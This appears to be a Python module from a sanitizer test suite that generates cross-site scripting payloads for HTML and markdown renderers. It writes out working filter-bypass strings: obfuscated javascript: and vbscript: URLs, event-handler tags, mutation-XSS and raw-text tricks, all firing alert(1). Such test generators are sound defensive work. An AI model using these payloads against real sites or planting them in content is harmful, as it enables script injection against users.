"""Attacks made by rules, not collected: spellings of a scheme x places for it, events, raw text, split tokens.

Every list is a product of small parts, so that a new spelling or place multiplies by itself. ``alert(1)``
stands for anything: the browser test listens for it.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALL = "alert(1)"
_WORDS = ("javascript", "vbscript", "livescript")


def addresses() -> list[str]:
    """Script addresses in the spellings that some renderer or browser decodes."""
    return list(dict.fromkeys(itertools.chain.from_iterable(_spellings(word) for word in _WORDS)))


def _spellings(word: str) -> Iterator[str]:
    rest = CALL
    yield f"{word}:{rest}"
    yield f"{word.upper()}:{rest}"
    yield f"{word[:3].title()}{word[3:].upper()}:{rest}"
    for white in (
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\x00",
        "\x01",
        "\x0b",
        "\x1f",
        "\xa0",
        "\u200b",
        "\u2028",
        "\ufeff",
        "\xad",
    ):
        yield f"{white}{word}:{rest}"
        yield f"{word[:4]}{white}{word[4:]}:{rest}"
        yield f"{word}{white}:{rest}"
    for code in range(len(word)):
        letter = word[code]
        for reference in _references(letter):
            yield f"{word[:code]}{reference}{word[code + 1 :]}:{rest}"
    for colon in ("&colon;", *_references(":"), "\\:", "%3A", "%3a"):
        yield f"{word}{colon}{rest}"
    yield f"{word[:4]}&Tab;{word[4:]}&colon;{rest}"
    yield f"{word[:4]}&NewLine;{word[4:]}:{rest}"
    yield f"&amp;#{ord(word[0])};{word[1:]}:{rest}"
    yield f"%{ord(word[0]):x}{word[1:]}:{rest}"
    yield f"view-source:{word}:{rest}"
    yield f"feed:{word}:{rest}"


def _references(letter: str) -> tuple[str, ...]:
    code = ord(letter)
    return (f"&#{code};", f"&#0000{code};", f"&#x{code:x};", f"&#X{code:X};")


_LINK_PLACES = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}>",
    "[r]\n\n [r]:\n{}",
    "<{}>",
    "- [x]({})",
    "> [x]({})",
    "# [x]({})",
    "| [x]({}) |\n| --- |",
    "[![a](b)]({})",
    "[a **b** `c`]({})",
    '[x](https://example.org/ "![y]({})")',
    "<https://example.org/![x]({})>",
    "![a ![b](c)]({})",
    "`` [x]({}) ``",
    "[^1]\n\n[^1]: [x]({})",
    "\\[x]({}) [x]({})",
)
_HTML_PLACES = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<a\nhref = "{}">x</a>',
    '<img src="{}">',
    '<img src="a" srcset="b 1x, {} 2x">',
    '<video poster="{}"></video>',
    '<table background="{}"><tr><td>x</table>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<a href="https://example.org/" href="{}">x</a>',
    '<blockquote cite="{}">x</blockquote>',
    '<p style="background:url({})">x</p>',
)

_EVENTS = ("onclick", "OnError", "onload", "onmouseover", "onfocus", "ontoggle", "onx")
_TAGS = (
    "<img src=x {}={}>",
    '<p {}="{}">x</p>',
    "<b {}='{}'>x</b>",
    "<details open {}={}>x</details>",
    "<svg/{}={}>",
    "<svg {}={}//",
    "<body {}={}>",
    "<x {}={} tabindex=1>y",
    '<a href="#" {}\n=\n"{}">x</a>',
    "<img/src=x/{}={}>",
    '<img "x" {}={}>',
    '<img title=">" {}={}>',
    "<input autofocus {}={}>",
    "<audio src=x {}={}></audio>",
)
_RAW_TEXT = (
    "<script>{}</script>",
    "<SCRIPT/x>{}</SCRIPT>",
    "<script\n>{}\n</script\n>",
    "<script src=//example.org/x.js></script>",
    "<style>@import '//example.org/x.css';</style>",
    "<style>p{{background:url(//example.org/)}}</style>",
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<textarea></textarea><img src=x onerror={}>",
    '<title><a title="</title><img src=x onerror={}>">',
    "<xmp><img src=x onerror={}></xmp><xmp></xmp><img src=x onerror={}>",
    "<template><img src=x onerror={}></template>",
    "<iframe srcdoc='<img src=x onerror={}>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    "<select><option><img src=x onerror={}></select>",
    "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}> -->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?x <img src=x onerror={}>?>",
    "<svg><set attributeName=href to=javascript:{} /></svg>",
    "<frameset onload={}>",
    '<link rel="stylesheet" href="//example.org/x.css">',
    '<p style="x:expression({})">x</p>',
    '<p style="b\\65havior:url(x)">x</p>',
)
_TEXT = (
    "&lt;script&gt;{}&lt;/script&gt;",
    "&lt;img src=x onerror={}&gt;",
    "&amp;lt;img src=x onerror={}&amp;gt;",
    "<b>&lt;</b>img src=x onerror={}&gt;",
    "&lt;javascript:{}&gt;",
    "<p>[x]</p><p>(javascript:{})</p>",
    "[x]<b></b>(javascript:{})",
    "<p>[r]: javascript:{}</p><p>[r]</p>",
    '<a href="/a)[x](javascript:{}">y</a>',
    '<a href="/a> [x](javascript:{}) <">y</a>',
    '<a title="&quot;)[x](javascript:{})" href="/">y</a>',
    '<a title="a\n\n[x](javascript:{})" href="/">y</a>',
    '<img alt="a\n\n[x](javascript:{})" src="b.png">',
    '<img alt="](javascript:{})![" src="b.png">',
    '<img alt="](x)<img src=x onerror={}>" src="b.png" width="1">',
    '<abbr title="`[x](javascript:{})`">a</abbr>',
    "<code>``` &lt;img src=x onerror={}&gt;</code>",
    "<code>a`` `&lt;img src=x onerror={}&gt;</code>",
    "<code>a\n\n&lt;img src=x onerror={}&gt;</code>",
    "<code> &lt;img src=x onerror={}&gt; </code>",
    "<pre>```\n&lt;img src=x onerror={}&gt;\n```\n&lt;img src=x onerror={}&gt;</pre>",
    '<pre><code class="language-x&#10;```&#10;&lt;img src=x onerror={}&gt;">y</code></pre>',
    '<pre><code class="language-{{onclick={}}}">y</code></pre>',
    "<table><tr><td>`</td><td>`&lt;img src=x onerror={}&gt;</td></tr></table>",
    "<ul><li><pre>&lt;img src=x onerror={}&gt;</pre></li></ul>",
    '<p>x</p>{{: onclick="{}"}}',
    '<p>x{{: onclick="{}"}}</p>',
    '<b>x</b>{{: onclick="{}"}}',
    '<a href="/">x</a>{{: onclick="{}"}}',
    '<p>{{:r: onclick="{}"}}</p><p>x{{:r}}</p>',
    "<p>{{::nomarkdown}}&lt;img src=x onerror={}&gt;{{:/}}</p>",
    '<h1>x {{#a onclick="{}"}}</h1>',
    "---\na: &lt;img src=x onerror={}&gt;\n---",
    "<!-- a -- ><img src=x onerror={}> -->",
    "https://example.org/&lt;img src=x onerror={}&gt;",
    "www.example.org/&lt;svg onload={}&gt;",
    "<blockquote>&gt; &lt;img src=x onerror={}&gt;</blockquote>",
    '<div markdown="1">x{{: onclick="{}"}}</div>',
)
_MARKDOWN_ONLY = (
    "`    <img src=x onerror={}>`",
    "` <img src=x onerror={}> `",
    "a ` b `<img src=x onerror={}>` c",
    "`a\n<img src=x onerror={}>\nb`",
    "``` x y\n\n<img src=x onerror={}>\n\n```",
    "- ```\n\n  <img src=x onerror={}>\n  ```",
    "~~~ {{onclick={}}}\nx\n~~~",
    "a\n    <img src=x onerror={}>",
    "- a\n\n      <img src=x onerror={}>",
    '# x {{#a onclick="{}"}}',
    'x\n{{: onclick="{}"}}',
    '*x*{{: onclick="{}"}}',
    '[x](/){{: onclick="{}"}}',
    '![x](/){{:onload="{}"}}',
    '{{:r: onclick="{}"}}\n\nx\n{{: r}}',
    "<div>\n\n```html\n<img src=x onerror={}>\n```\n\n</div>",
    "| `a | <img src=x onerror={}>` |\n| --- | --- |",
    "<a href=/ onclick={}>\n\nx",
    "[x]: /a 'b' onclick={}\n[y]: javascript:{}\n\n[y]",
    "[link](\n> javascript:{})",
    "> [link](\n> javascript:{})",
    "<svg/onload={}>",
    "<image/src/onerror={}>",
    "<img src=x onerror={}//",
    "\\<img src=x onerror={}>",
    "<<img src=x onerror={}>",
    "$<img src=x onerror={}>$",
    "*[<img src=x onerror={}>]: y",
    "[^a]\n\n[^a]: <img src=x onerror={}>",
)


def html() -> list[str]:
    """HTML documents that run, load, frame, post or redirect, or whose text would if it woke up."""
    found = [place.format(address) for place in _HTML_PLACES for address in _few_addresses()]
    found += [tag.format(event, CALL) for tag in _TAGS for event in _EVENTS]
    found += [
        pattern.replace("{}", CALL).replace("{{", "{").replace("}}", "}") for pattern in (*_RAW_TEXT, *_TEXT)
    ]
    return list(dict.fromkeys(found))


def markdown() -> list[str]:
    """Markdown documents that do the same in at least one renderer, or look as if they might."""
    found = [
        place.format(*[address] * place.count("{}")) for place in _LINK_PLACES for address in _few_addresses()
    ]
    found += [pattern.replace("{}", CALL).replace("{{", "{").replace("}}", "}") for pattern in _MARKDOWN_ONLY]
    return list(dict.fromkeys([*found, *html()]))


def _few_addresses() -> list[str]:
    return addresses()[::7]
